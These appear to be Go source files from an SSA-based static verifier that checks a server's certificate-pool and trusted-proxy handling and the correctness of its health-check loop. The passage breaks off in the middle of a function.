// c04TrustConfig: the trust configuration is used as configured: certificates presented by a
// caller are only ever added to a pool created for that very check, never to a configured
// pool; trusted proxy networks are parsed from the configured strings as they are, and a bare
// address becomes a single-host network of its own address family.
func c04TrustConfig(c *Ctx) {
	p := c.P
	const ri = "R04i"
	// AddCert / AppendCertsFromPEM on the request path
	iface := p.ifaceNamed("internal/authmodel", "Authenticator")
	var roots []*ssa.Function
	if iface != nil {
		for _, t := range p.implementersOf(iface) {
			if f := p.methodOf(t, "Authenticate"); f != nil {
				roots = append(roots, f)
			}
		}
	}
	if mw := p.Func("internal/realip.Middleware"); mw != nil {
		roots = append(roots, withClosures(mw)...)
	}
	n := 0
	for fn := range p.moduleReachOpt(roots, false) {
		k := 0
		for _, ci := range p.callsIn(fn, "(*crypto/x509.CertPool).AddCert", "(*crypto/x509.CertPool).AppendCertsFromPEM") {
			n++
			k++
			key := fmt.Sprintf("%s adds to a pool#%d", p.FName(fn), k)
			c.Analysed(p.FName(fn))
			fresh := true
			for _, lf := range phiLeaves(ci.Common().Args[0], nil, map[*ssa.Phi]bool{}) {
				call, _ := resultOf(lf.V)
				if call == nil || p.calleeName(call.Common()) != "crypto/x509.NewCertPool" || call.Parent() != fn {
					fresh = false
				}
			}
			c.Check(fresh, ri, key, p.Pos(ci.Pos()), "the pool was created by this call of the function", "certificates are added at request time to a certificate pool that outlives the request (a configured pool, not x509.NewCertPool() of this call): whatever a caller sends along with its leaf becomes a trust anchor or intermediate for every later caller")
		}
	}
	if n < 1 {
		c.Undecided(ri, "pool additions on the authentication path", "-", "none found (1 confirmed by reading: ClientConfig.Match)")
	}
	// trusted proxies
	pt := p.Func("internal/realip.parseTrusted")
	if pt == nil {
		c.Undecided(ri, "realip.parseTrusted", "-", "function not found")
		return
	}
	c.Analysed(p.FName(pt))
	okVerbatim := true
	nParse := 0
	for _, ci := range p.callsIn(pt, "net.ParseCIDR", "net.ParseIP") {
		nParse++
		if dependsOnNoCall(ci.Common().Args[0], func(x ssa.Value) bool {
			bo, ok := x.(*ssa.BinOp)
			return ok && bo.Op == token.ADD
		}) {
			okVerbatim = false
		}
	}
	c.Check(okVerbatim && nParse >= 2, ri, "parseTrusted parses the configured strings verbatim", p.Pos(pt.Pos()), "", "a trusted_proxies entry is rewritten (string concatenation) before it is parsed: the network that ends up trusted is not the one that was configured")
	okMask := true
	lens := map[int64]bool{}
	for _, ci := range p.callsIn(pt, "net.CIDRMask") {
		a0, a1 := ci.Common().Args[0], ci.Common().Args[1]
		ones, ok1 := constInt(a0)
		bits, ok2 := constInt(a1)
		switch {
		case ok1 && ok2 && ones == bits:
			lens[bits] = true
		case a0 == a1:
			// one variable for both arguments: every value it may hold is a full address length
			for _, lf := range phiLeaves(a0, nil, map[*ssa.Phi]bool{}) {
				if k, isK := constInt(lf.V); isK && (k == 32 || k == 128) {
					lens[k] = true
				} else {
					okMask = false
				}
			}
		default:
			okMask = false
		}
	}
	nMask := 0
	if lens[32] && lens[128] && len(lens) == 2 {
		nMask = 2
	}
	c.Check(okMask && nMask == 2, ri, "a bare proxy address becomes a single-host network of its family", p.Pos(pt.Pos()), "CIDRMask(32,32) / CIDRMask(128,128)", "a bare address in trusted_proxies is not given the full-length mask of its address family: more hosts than the configured one are trusted to assert client identities")
	// every client entry's pool is a pool of its own, made where it is stored
	nPool := 0
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				if t, f, _ := p.fieldAddr(st.Addr); t != "config.ClientConfig" || f != "certs" {
					continue
				}
				nPool++
				call, isCall := stripConv(st.Val).(*ssa.Call)
				fresh := isCall && p.calleeName(call.Common()) == "crypto/x509.NewCertPool"
				if fresh && reachableAfter(fn, st, st, nil, nil) && !reachableAfter(fn, st, call, nil, nil) {
					// the store runs once per entry, the pool is made once before the loop
					fresh = false
				}
				c.Check(fresh, ri, fmt.Sprintf("%s gives a client entry a certificate pool of its own #%d", p.FName(fn), nPool), p.Pos(st.Pos()), "x509.NewCertPool()", "the pool stored into a client entry is not the result of x509.NewCertPool() at this site ("+describeVal(p, st.Val)+"): a pool shared between entries is whatever the first entry put into it, so a certificate issued by one entry's CA is matched against another entry's and gets that entry's roles")
			}
		}
	}
	if nPool == 0 {
		c.Undecided(ri, "ClientConfig.certs is filled", "-", "no store into config.ClientConfig.certs found")
	}
}

// dependsOnNoCall: like dependsOn, but does not look through calls.
func dependsOnNoCall(v ssa.Value, pred func(ssa.Value) bool) bool {
	seen := map[ssa.Value]bool{}
	var walk func(v ssa.Value) bool
	walk = func(v ssa.Value) bool {
		if v == nil || seen[v] {
			return false
		}
		seen[v] = true
		if pred(v) {
			return true
		}
		switch x := v.(type) {
		case *ssa.Phi:
			for _, e := range x.Edges {
				if walk(e) {
					return true
				}
			}
		case *ssa.BinOp:
			return walk(x.X) || walk(x.Y)
		case *ssa.Convert:
			return walk(x.X)
		case *ssa.ChangeType:
			return walk(x.X)
		case *ssa.Slice:
			return walk(x.X)
		case *ssa.UnOp:
			if x.Op == token.MUL {
				if a, ok := x.X.(*ssa.Alloc); ok {
					for _, r := range *a.Referrers() {
						if st, ok := r.(*ssa.Store); ok && st.Addr == ssa.Value(a) && walk(st.Val) {
							return true
						}
					}
				}
			}
		}
		return false
	}
	return walk(v)
}
