package main

// C20 — health reporting follows token state with hysteresis; Close ends the loop.

import (
	"fmt"
	"go/constant"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID: "C20",
		Meta: propMeta{
			Explanation: "Structural necessary conditions of the health property, decided on the SSA form of package server: (R20a) no select-loop can re-enter its select from the case that receives from a close-signalling channel (a closed channel is always ready, so re-entry is a busy spin) — module-wide, with the server's health loop as required instance; (R20b) the package-level health counters are written only by the initialiser and the checker and every access after the loop goroutine is started holds healthMu; (R20c) Server.Close closes the channel the loop selects on, exactly once, and exactly one loop goroutine is started; (R20d) Healthy() can return true only on a path where Disabled is false, the staleness comparison (elapsed > 3*interval) is false, and its value is (counter > 0); (R20e) the value the checker stores into the counter is the configured N exactly when no token failed, otherwise counter-1 guarded by counter>0, otherwise unchanged; a token counts as failed exactly when Ping returned an error. (R20f) every completed check refreshes healthLastPing on every path (staleness means the checker stopped, not that tokens fail); the worker's periodic check runs Ping in its own goroutine and waits in a select that includes the timeout context's Done channel, so a token whose Ping ignores its context cannot wedge the loop. (R20g) the worker token's retry loop reports failure when its attempts are exhausted (the rules of C15 R15a-c on doRetry, which Ping goes through); (R20h) every module type that wraps a token.Token and defines its own Ping returns nil only as the result of the wrapped token's Ping. (R20j) every success return of startHealthCheck comes after `go healthCheckLoop()`: the last-check time keeps being refreshed also when no token is served. (R20k) TokenCheckFailures, TokenCheckInterval and TokenCheckTimeout are fields of config.ServerConfig that the YAML decoder fills from the keys of the same name in lower case directly under `server:` - declared in the struct itself or in an embedded struct tagged `yaml:\",inline\"` (yaml.v3 does not promote embedded structs by itself), with no renaming tag: the configured threshold is the one the hysteresis uses. (R20i) the closure Daemon.Close runs in its errgroup reaches no return without calling Server.Close, which signals the health loop and closes the Closed channel, also when http.Server.Shutdown failed.",
			NotDecided:  "the arithmetic over whole check histories and elapsed time (no execution, no model of time); that Ping itself reflects token state.",
			Assumptions: []string{"a receive from a closed channel never blocks (Go spec)", "sync.Mutex provides mutual exclusion"},
		},
		Run: runC20,
	})
}

// closeSignalKeys: memory keys (fields / globals) of channel type on which close() is
// called somewhere in the module, closed under aliasing through "same value stored in
// the same function" (Server{Closed: closed, closeCh: closed}).
func (p *Prog) closeSignalKeys() map[string]bool {
	keys := map[string]bool{}
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				if bi, ok := call.Call.Value.(*ssa.Builtin); ok && bi.Name() == "close" && len(call.Call.Args) == 1 {
					if k := p.memKey(call.Call.Args[0]); k != "" {
						keys[k] = true
					}
				}
			}
		}
	}
	// alias closure
	for changed := true; changed; {
		changed = false
		for _, fn := range p.Funcs {
			byVal := map[ssa.Value][]string{}
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					if st, ok := in.(*ssa.Store); ok {
						if _, isChan := st.Val.Type().Underlying().(*types.Chan); !isChan {
							continue
						}
						if k := p.memKey(st.Addr); k != "" {
							byVal[stripChanConv(st.Val)] = append(byVal[stripChanConv(st.Val)], k)
						}
					}
				}
			}
			for _, ks := range byVal {
				any := false
				for _, k := range ks {
					if keys[k] {
						any = true
					}
				}
				if any {
					for _, k := range ks {
						if !keys[k] {
							keys[k] = true
							changed = true
						}
					}
				}
			}
		}
	}
	return keys
}

func stripChanConv(v ssa.Value) ssa.Value {
	for {
		switch x := v.(type) {
		case *ssa.ChangeType:
			v = x.X
		case *ssa.MakeInterface:
			v = x.X
		default:
			return v
		}
	}
}

// selectCaseTargets maps each case index of a Select to the block its body starts in.
func selectCaseTargets(sel *ssa.Select) map[int]*ssa.BasicBlock {
	out := map[int]*ssa.BasicBlock{}
	var idx ssa.Value
	for _, r := range *sel.Referrers() {
		if e, ok := r.(*ssa.Extract); ok && e.Index == 0 {
			idx = e
		}
	}
	if idx == nil {
		return out
	}
	for _, r := range *idx.Referrers() {
		bo, ok := r.(*ssa.BinOp)
		if !ok || bo.Op != token.EQL {
			continue
		}
		c, ok := bo.Y.(*ssa.Const)
		if !ok || c.Value == nil {
			continue
		}
		k, _ := constant.Int64Val(c.Value)
		for _, r2 := range *bo.Referrers() {
			if ifi, ok := r2.(*ssa.If); ok {
				out[int(k)] = ifi.Block().Succs[0]
			}
		}
	}
	return out
}

// definedInCycle: is v defined by an instruction inside a cycle through block b?
func definedInCycle(fn *ssa.Function, v ssa.Value, b *ssa.BasicBlock) bool {
	in, ok := v.(ssa.Instruction)
	if !ok {
		return false // parameter, free variable, constant, global
	}
	db := in.Block()
	if db == nil {
		return false
	}
	return reach(fn, []*ssa.BasicBlock{b}, nil, nil)[db.Index] && reach(fn, []*ssa.BasicBlock{db}, nil, nil)[b.Index]
}

func (p *Prog) isCtxDone(v ssa.Value) bool {
	if c, ok := v.(*ssa.Call); ok {
		return p.calleeName(c.Common()) == "(context.Context).Done"
	}
	return false
}

func runC20(c *Ctx) {
	p := c.P
	const (
		ra = "R20a"
		rb = "R20b"
		rc = "R20c"
		rd = "R20d"
		re = "R20e"
	)
	c.Rule(ra, "a select inside a loop must not re-enter the select from the case that receives from a close-signalling channel (field/global that the module close()s, or ctx.Done())", 1)
	c.Rule(rb, "healthStatus/healthLastPing are written only by startHealthCheck (before the go statement) and healthCheck, and every other access holds healthMu", 4)
	c.Rule(rc, "Server.Close closes the channel aliased by Server.Closed exactly once (guarded by non-nil, reset to nil) before closing tokens; exactly one `go healthCheckLoop` exists, outside any loop", 3)
	c.Rule(rd, "Healthy() returns a non-false value only when Disabled is false and the staleness test elapsed > 3*interval is false, and that value is healthStatus > 0", 3)
	c.Rule(re, "healthCheck stores N (configured failures) iff no token failed, else last-1 guarded by last>0, else last; a token is failed iff Ping returned non-nil", 4)

	// ---- R20a, module-wide
	serverInst := 0
	for _, f := range selectSpins(p) {
		if len(f.Key) > 9 && f.Key[:9] == "(*server." {
			serverInst++
		}
		switch {
		case f.OK:
			c.Pass(ra, f.Key, f.Pos, "close case leaves the loop")
		case len(f.Detail) > 9 && f.Detail[:9] == "UNDECIDED":
			c.Undecided(ra, f.Key, f.Pos, f.Detail)
		default:
			c.Fail(ra, f.Key, f.Pos, f.Detail, f.Path...)
		}
	}
	c.runControl("R20a select-spin control (ctl/spin.(*S).Loop)", "spin.S).Loop select-case", selectSpins)
	if serverInst == 0 {
		c.Undecided(ra, "server health loop", "-", "no select on a close-signalling channel found in package server: the health loop's exit mechanism is gone or unrecognised")
	}

	// ---- R20b writers + lock discipline
	keys := map[string]bool{"g:server.healthStatus": true, "g:server.healthLastPing": true}
	sp := p.SSAPkg("server")
	if sp == nil {
		c.Undecided(rb, "package server", "-", "package not found")
		return
	}
	for k := range keys {
		name := k[len("g:server."):]
		if _, ok := sp.Members[name].(*ssa.Global); !ok {
			c.Undecided(rb, k, "-", "package-level variable not found (renamed?): update the guard table")
		}
	}
	const lockKey = "g:server.healthMu"
	// the starter: the function that holds the `go healthCheckLoop` statement (startHealthCheck
	// today; New itself once that helper is inlined)
	start := healthStarter(p)
	for _, fn := range p.Funcs {
		accs := p.accessesOf(fn, keys)
		if len(accs) == 0 {
			continue
		}
		c.Analysed(p.FName(fn))
		held := p.heldLocks(fn)
		n := map[string]int{}
		for _, a := range accs {
			kind := "read"
			if a.Write {
				kind = "write"
			}
			n[a.Key+kind]++
			key := fmt.Sprintf("%s %s %s#%d", p.FName(fn), kind, a.Key, n[a.Key+kind])
			if fn == start && start != nil {
				// exception: initialisation before the goroutine that shares them exists
				goSeen := false
				for _, b := range fn.Blocks {
					for _, in := range b.Instrs {
						if _, ok := in.(*ssa.Go); ok && reachableAfter(fn, in, a.Instr, nil, nil) {
							goSeen = true
						}
					}
				}
				// and the initialiser itself runs once, from New, before the server is published
				c.Check(!goSeen, rb, key, p.Pos(a.Instr.Pos()), "initialisation precedes the go statement that shares the variable", "access after the loop goroutine was started, without the lock")
				continue
			}
			if lockOK(held[a.Instr], lockKey, a.Write) {
				c.Pass(rb, key, p.Pos(a.Instr.Pos()), "healthMu held")
			} else {
				c.Fail(rb, key, p.Pos(a.Instr.Pos()), "health counter accessed without holding healthMu")
			}
			if a.Write && p.FName(fn) != "(*server.Server).healthCheck" {
				c.Fail(rb, key+" writer", p.Pos(a.Instr.Pos()), "unexpected writer of the health counters (only startHealthCheck and healthCheck may write)")
			}
		}
	}
	// startHealthCheck is called exactly once, from New, not in a loop
	if start == nil {
		c.Undecided(rb, "startHealthCheck", "-", "function not found")
	} else {
		nCalls := 0
		if p.FName(start) == "server.New" {
			// New starts the loop itself: once per server by construction (the go statement is
			// checked not to be in a loop under R20c)
			nCalls = 1
			c.Pass(rb, "startHealthCheck caller server.New", p.Pos(start.Pos()), "New holds the go statement itself")
		}
		for _, fn := range p.Funcs {
			if nCalls == 1 && start == fn {
				break
			}
			for _, ci := range p.callsIn(fn, p.FName(start)) {
				nCalls++
				inLoop := reach(fn, ci.Block().Succs, nil, nil)[ci.Block().Index]
				c.Check(p.FName(fn) == "server.New" && !inLoop, rb, "startHealthCheck caller "+p.FName(fn), p.Pos(ci.Pos()), "called once from New", "startHealthCheck called from an unexpected place or in a loop (unsynchronised re-initialisation)")
			}
		}
		if nCalls != 1 {
			c.Fail(rb, "startHealthCheck call count", p.Pos(start.Pos()), fmt.Sprintf("%d call sites, expected exactly 1", nCalls))
		}
	}

	// ---- R20c
	closeFn := p.Func("server.(*Server).Close")
	if closeFn == nil {
		c.Undecided(rc, "(*Server).Close", "-", "function not found")
	} else {
		c.Analysed(p.FName(closeFn))
		// the two steps of Close - signalling the loop, closing the tokens - in Close itself or
		// in a helper of the package Close calls (signalClosed(), closeTokens())
		st := serverCloseSteps(p, closeFn)
		closeCalls := st.closeCalls
		aliasOK := p.closeSignalKeys()["f:server.Server.Closed"]
		if len(closeCalls) != 1 {
			c.Fail(rc, "(*server.Server).Close close()", p.Pos(closeFn.Pos()), fmt.Sprintf("%d close() calls, expected 1", len(closeCalls)))
		} else {
			cc := closeCalls[0]
			outer := closeFn
			closeFn := st.sigHost
			k := p.memKey(cc.Call.Args[0])
			// guarded by field != nil
			g := Guard{Name: "chan != nil", Match: func(f Fact) bool { return f.Kind == NonNil && p.memKey(f.V) == k }}
			missing, path := p.unguardedFromEntry(closeFn, cc, g)
			// reset to nil afterwards on all paths to return
			reset := false
			for _, b := range closeFn.Blocks {
				for _, in := range b.Instrs {
					if st, ok := in.(*ssa.Store); ok && p.memKey(st.Addr) == k && isNilConst(st.Val) && reachableAfter(closeFn, cc, st, nil, nil) && st.Block() == cc.Block() {
						reset = true
					}
				}
			}
			inLoop := reach(closeFn, cc.Block().Succs, nil, nil)[cc.Block().Index]
			if sb := st.sigSite.Block(); closeFn != outer && reach(outer, sb.Succs, nil, nil)[sb.Index] {
				inLoop = true
			}
			c.Check(len(missing) == 0 && reset && !inLoop && k != "" && aliasOK, rc, "(*server.Server).Close close-once", p.Pos(cc.Pos()),
				"close(ch) guarded by ch != nil, reset to nil in the same block, aliases Server.Closed",
				fmt.Sprintf("close of the loop's channel is not exactly-once (guard missing=%v reset=%v inLoop=%v aliasesClosed=%v)", missing, reset, inLoop, aliasOK), path...)
			// close precedes token closing: every token Close call is reachable only after
			for _, tc := range st.tokSites {
				before := reachableAfter(outer, tc, st.sigSite, nil, nil) || tc == st.sigSite
				c.Check(!before, rc, "(*server.Server).Close order", p.Pos(tc.Pos()), "tokens are closed after the loop was signalled", "a token is closed before the health loop is signalled to stop")
			}
		}
	}
	nGo := 0
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				g, ok := in.(*ssa.Go)
				if !ok {
					continue
				}
				if p.calleeName(g.Common()) != "(*server.Server).healthCheckLoop" {
					continue
				}
				nGo++
				inLoop := reach(fn, b.Succs, nil, nil)[b.Index]
				c.Check(!inLoop && fn == start, rc, "go healthCheckLoop in "+p.FName(fn), p.Pos(g.Pos()), "single loop goroutine started by startHealthCheck", "health loop started in a loop or from an unexpected function")
			}
		}
	}
	if nGo != 1 {
		c.Fail(rc, "go healthCheckLoop count", "-", fmt.Sprintf("%d go statements start the health loop, expected exactly 1", nGo))
	}

	// ---- R20d Healthy
	if h := p.Func("server.(*Server).Healthy"); h == nil {
		c.Undecided(rd, "(*Server).Healthy", "-", "function not found")
	} else {
		c.Analysed(p.FName(h))
		disabled := Guard{Name: "Disabled == false", Match: func(f Fact) bool {
			if f.Kind != IsFalse {
				return false
			}
			_, fld, _ := p.fieldLoad(f.V)
			return fld == "Disabled"
		}}
		stale := Guard{Name: "!(elapsed > 3*interval)", Match: func(f Fact) bool {
			if f.Kind != IsFalse {
				return false
			}
			return p.isStaleCompare(f.V)
		}}
		nStale := len(passEdges(h, stale))
		n := 0
		for _, r := range returnsOf(h) {
			if len(r.Results) != 1 {
				continue
			}
			if b, ok := boolConst(retVal(r, 0)); ok && !b {
				continue
			}
			n++
			key := fmt.Sprintf("(*server.Server).Healthy return#%d", n)
			missing, path := p.unguardedFromEntry(h, r, disabled, stale)
			okShape := p.isCounterPositive(retVal(r, 0))
			c.Check(len(missing) == 0 && okShape, rd, key, p.Pos(r.Pos()),
				"healthy only if !Disabled, not stale, counter > 0",
				fmt.Sprintf("Healthy can report true without %v (value is counter>0: %v)", missing, okShape), path...)
		}
		c.Check(nStale > 0, rd, "(*server.Server).Healthy staleness test", p.Pos(h.Pos()), "time.Since(healthLastPing) > 3*healthCheckInterval() present", "staleness comparison `time.Since(healthLastPing) > 3*interval` not found")
		c.Check(n > 0, rd, "(*server.Server).Healthy can report healthy", p.Pos(h.Pos()), "", "Healthy never returns a non-false value")
	}

	// ---- R20e healthCheck hysteresis
	c20Hysteresis(c, re)
	c20Liveness(c)
	c.Rule("R20g", "a worker token's ping fails when its retries are exhausted: doRetry returns a nil error only after a successful attempt (shared with C15 R15a-c)", 2)
	if dr := c.P.Func("token/worker.(*WorkerToken).doRetry"); dr == nil {
		c.Undecided("R20g", "(*WorkerToken).doRetry", "-", "function not found")
	} else {
		c15Retry(c, dr, "R20g", "R20g", "R20g")
	}
	c.Rule("R20j", "startHealthCheck starts the health loop on every path on which it succeeds", 1)
	for _, f := range healthLoopAlwaysStarted(c.P) {
		c.Check(f.OK, "R20j", f.Key, f.Pos, "", f.Detail)
	}
	c.Rule("R20k", "the check settings the health checker reads are keys of the `server:` section under their documented names", 3)
	for _, f := range healthSettingsAreServerKeys(c.P) {
		c.Check(f.OK, "R20k", f.Key, f.Pos, "", f.Detail)
	}
	c.Rule("R20i", "the daemon's shutdown step calls Server.Close, which stops the health loop, on every path", 1)
	for _, f := range shutdownAlwaysClosesServer(c.P) {
		c.Check(f.OK, "R20i", f.Key, f.Pos, "", f.Detail)
	}
	c.Rule("R20h", "a token wrapper with its own Ping answers with the wrapped token's answer", 0)
	for _, f := range pingForwards(c.P) {
		c.Check(f.OK, "R20h", f.Key, f.Pos, "", f.Detail)
	}
	c.runControl("R20h wrapper ping control (ctl/pingwrap.Cache)", "pingwrap.", pingForwards)
}

// isStaleCompare: v is `time.Since(healthLastPing) > 3 * s.healthCheckInterval()`
// (or the mirrored `<`), with the constant folding to 3.
func (p *Prog) isStaleCompare(v ssa.Value) bool {
	bo, ok := v.(*ssa.BinOp)
	if !ok {
		return false
	}
	var big, small ssa.Value
	switch bo.Op {
	case token.GTR:
		big, small = bo.X, bo.Y
	case token.LSS:
		big, small = bo.Y, bo.X
	default:
		return false
	}
	// big: time.Since(load healthLastPing)
	call, ok := big.(*ssa.Call)
	if !ok {
		return false
	}
	if n := p.calleeName(call.Common()); n != "time.Since" || len(call.Call.Args) != 1 || p.memKey(call.Call.Args[0]) != "g:server.healthLastPing" {
		return false
	}
	// small: 3 * healthCheckInterval()
	mul, ok := small.(*ssa.BinOp)
	if !ok || mul.Op != token.MUL {
		return false
	}
	isThree := func(v ssa.Value) bool {
		c, ok := v.(*ssa.Const)
		if !ok || c.Value == nil {
			return false
		}
		i, ok := constant.Int64Val(constant.ToInt(c.Value))
		return ok && i == 3
	}
	isInterval := func(v ssa.Value) bool {
		call, ok := v.(*ssa.Call)
		return ok && p.calleeName(call.Common()) == "(*server.Server).healthCheckInterval"
	}
	return (isThree(mul.X) && isInterval(mul.Y)) || (isThree(mul.Y) && isInterval(mul.X))
}

func isIntConst(v ssa.Value, want int64) bool {
	c, ok := v.(*ssa.Const)
	if !ok || c.Value == nil || c.Value.Kind() != constant.Int {
		return false
	}
	i, ok := constant.Int64Val(c.Value)
	return ok && i == want
}

// isCounterPositive: v is `healthStatus > 0`.
func (p *Prog) isCounterPositive(v ssa.Value) bool {
	bo, ok := v.(*ssa.BinOp)
	if !ok {
		return false
	}
	switch bo.Op {
	case token.GTR:
		return p.memKey(bo.X) == "g:server.healthStatus" && isIntConst(bo.Y, 0)
	case token.LSS:
		return p.memKey(bo.Y) == "g:server.healthStatus" && isIntConst(bo.X, 0)
	case token.GEQ:
		return p.memKey(bo.X) == "g:server.healthStatus" && isIntConst(bo.Y, 1)
	}
	return false
}

// phiLeaves flattens a phi web into (leaf value, predecessor block through which the
// leaf enters the web).
type phiLeaf struct {
	V    ssa.Value
	From *ssa.BasicBlock // predecessor block through which the leaf enters the phi web
	To   *ssa.BasicBlock // block of the phi it enters (nil when v is not a phi at all)
}

func phiLeaves(v ssa.Value, from *ssa.BasicBlock, seen map[*ssa.Phi]bool) []phiLeaf {
	return phiLeaves2(v, from, nil, seen)
}

func phiLeaves2(v ssa.Value, from, to *ssa.BasicBlock, seen map[*ssa.Phi]bool) []phiLeaf {
	ph, ok := v.(*ssa.Phi)
	if !ok {
		return []phiLeaf{{v, from, to}}
	}
	if seen[ph] {
		return nil
	}
	seen[ph] = true
	var out []phiLeaf
	for i, e := range ph.Edges {
		out = append(out, phiLeaves2(e, ph.Block().Preds[i], ph.Block(), seen)...)
	}
	return out
}

// leafUnguarded: can the leaf's entering edge (From -> To) be taken on a path from the
// function entry that crosses no pass edge of g?  (Edge-precise: when From ends in the
// very If that carries the guard, the edge itself may be the pass edge.)
func leafUnguarded(fn *ssa.Function, lf phiLeaf, g Guard) bool {
	del := passEdges(fn, g)
	if lf.From == nil {
		return true
	}
	if !reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, nil)[lf.From.Index] {
		return false
	}
	if lf.To == nil {
		return true
	}
	for si, s := range lf.From.Succs {
		if s == lf.To && !del[edge{lf.From.Index, si}] {
			return true
		}
	}
	return false
}

func c20Hysteresis(c *Ctx, re string) {
	p := c.P
	hc := p.Func("server.(*Server).healthCheck")
	if hc == nil {
		c.Undecided(re, "(*Server).healthCheck", "-", "function not found")
		return
	}
	c.Analysed(p.FName(hc))
	// the store(s) to healthStatus
	var stores []*ssa.Store
	for _, b := range hc.Blocks {
		for _, in := range b.Instrs {
			if st, ok := in.(*ssa.Store); ok && p.memKey(st.Addr) == "g:server.healthStatus" {
				stores = append(stores, st)
			}
		}
	}
	if len(stores) != 1 {
		c.Undecided(re, "(*server.Server).healthCheck store", p.Pos(hc.Pos()), fmt.Sprintf("%d stores to healthStatus, the rule understands exactly one", len(stores)))
		return
	}
	st := stores[0]
	// the transition is computed in healthCheck itself, or in a step of it that was given a name: a function of
	// the package whose result is what gets stored. Its parameters stand for what healthCheck passes.
	host := hc
	var via *ssa.Call
	if call, _ := resultOf(st.Val); call != nil {
		if g := call.Common().StaticCallee(); g != nil && pkgOf(g) == pkgOf(hc) && len(g.Blocks) > 0 {
			if cc, ok := call.(*ssa.Call); ok {
				host, via = g, cc
				c.Analysed(p.FName(g))
			}
		}
	}
	actual := func(v ssa.Value) ssa.Value {
		if pa, ok := v.(*ssa.Parameter); ok && via != nil {
			for k, hp := range host.Params {
				if hp == pa && k < len(via.Call.Args) {
					return via.Call.Args[k]
				}
			}
		}
		return v
	}
	isLast := func(v ssa.Value) bool { return p.memKey(actual(v)) == "g:server.healthStatus" }
	isN := func(v ssa.Value) bool {
		_, fld, _ := p.fieldLoad(v)
		return fld == "TokenCheckFailures"
	}
	isDec := func(v ssa.Value) bool {
		bo, ok := v.(*ssa.BinOp)
		return ok && bo.Op == token.SUB && isLast(bo.X) && isIntConst(bo.Y, 1)
	}
	// "no token failed": len(notOK) == 0 where notOK grows only under pingOne == false
	isLenZero := func(v ssa.Value) (ssa.Value, bool) {
		v = actual(v)
		bo, ok := v.(*ssa.BinOp)
		if !ok || bo.Op != token.EQL || !isIntConst(bo.Y, 0) {
			return nil, false
		}
		call, ok := bo.X.(*ssa.Call)
		if !ok {
			return nil, false
		}
		if bi, ok := call.Call.Value.(*ssa.Builtin); !ok || bi.Name() != "len" {
			return nil, false
		}
		return call.Call.Args[0], true
	}
	var failList ssa.Value
	allOK := Guard{Name: "len(failed)==0", Match: func(f Fact) bool {
		if f.Kind != IsTrue {
			return false
		}
		l, ok := isLenZero(f.V)
		if ok {
			failList = l
		}
		return ok
	}}
	someFailed := Guard{Name: "len(failed)!=0", Match: func(f Fact) bool {
		if f.Kind != IsFalse {
			return false
		}
		_, ok := isLenZero(f.V)
		return ok
	}}
	lastPos := Guard{Name: "last > 0", Match: func(f Fact) bool {
		if f.Kind != IsTrue {
			return false
		}
		bo, ok := f.V.(*ssa.BinOp)
		return ok && bo.Op == token.GTR && isLast(bo.X) && isIntConst(bo.Y, 0)
	}}
	if len(passEdges(host, allOK)) == 0 {
		c.Fail(re, "(*server.Server).healthCheck all-ok test", p.Pos(hc.Pos()), "no `len(failed) == 0` test found: the reset-on-success branch is missing")
		return
	}
	leaves := phiLeaves(st.Val, st.Block(), map[*ssa.Phi]bool{})
	if via != nil {
		leaves = nil
		for _, r := range returnsOf(host) {
			leaves = append(leaves, phiLeaves(retVal(r, 0), r.Block(), map[*ssa.Phi]bool{})...)
		}
	}
	sawN, sawDec := false, false
	for i, lf := range leaves {
		key := fmt.Sprintf("(*server.Server).healthCheck next#%d", i+1)
		pos := p.Pos(st.Pos())
		switch {
		case isN(lf.V):
			sawN = true
			c.Check(!leafUnguarded(host, lf, allOK), re, key+" reset", pos, "counter reset to N only when no token failed", "counter is reset to the configured maximum on a path where some token failed (hysteresis lost)")
		case isDec(lf.V):
			sawDec = true
			c.Check(!leafUnguarded(host, lf, someFailed) && !leafUnguarded(host, lf, lastPos), re, key+" decrement", pos, "counter decremented only on failure and only while > 0", "counter decremented on a success path or below zero")
		case isLast(lf.V):
			c.Check(!leafUnguarded(host, lf, someFailed), re, key+" unchanged", pos, "counter left unchanged only on the failure side (already 0)", "a fully successful check can leave the counter unchanged: one success does not restore health")
		default:
			c.Fail(re, key+" value", pos, "value stored into the health counter is neither N, last-1 nor last: "+short(lf.V.String(), 60))
		}
	}
	c.Check(sawN, re, "(*server.Server).healthCheck has reset", p.Pos(st.Pos()), "", "no path stores the configured maximum: success never restores health")
	c.Check(sawDec, re, "(*server.Server).healthCheck has decrement", p.Pos(st.Pos()), "", "no path decrements the counter: consecutive failures are never counted")
	// store is under healthMu — shared with R20b. The fail list grows only on ping failure:
	if failList != nil {
		pingName := "(*server.Server).pingOne"
		if po := healthPinger(p); po != nil {
			pingName = p.FName(po)
		}
		pingFalse := p.callGuard("pingOne()==false", []string{pingName}, -1, IsFalse, nil)
		n := 0
		for _, lf := range phiLeaves(failList, nil, map[*ssa.Phi]bool{}) {
			call, ok := lf.V.(*ssa.Call)
			if !ok {
				continue
			}
			if bi, ok := call.Call.Value.(*ssa.Builtin); !ok || bi.Name() != "append" {
				continue
			}
			n++
			missing, path := p.unguardedFromEntry(hc, call, pingFalse)
			c.Check(len(missing) == 0, re, fmt.Sprintf("(*server.Server).healthCheck failed-list append#%d", n), p.Pos(call.Pos()), "token added to the failed list only when its ping failed", "token recorded as failed without a failed ping", path...)
		}
		c.Check(n > 0, re, "(*server.Server).healthCheck failed-list grows", p.Pos(hc.Pos()), "", "no token is ever added to the failed list")
		// every token is pinged: the pingOne call is inside the range loop over s.tokens
		pings := p.callsIn(hc, pingName)
		c.Check(len(pings) == 1 && reach(hc, pings[0].Block().Succs, nil, nil)[pings[0].Block().Index], re, "(*server.Server).healthCheck pings every token", p.Pos(hc.Pos()), "pingOne called in the loop over tokens", "pingOne is not called once per token inside the loop")
	}
	// pingOne: false iff Ping err != nil
	if po := healthPinger(p); po == nil {
		c.Undecided(re, "(*Server).pingOne", "-", "no single boolean function of package server calls Token.Ping")
	} else {
		c.Analysed(p.FName(po))
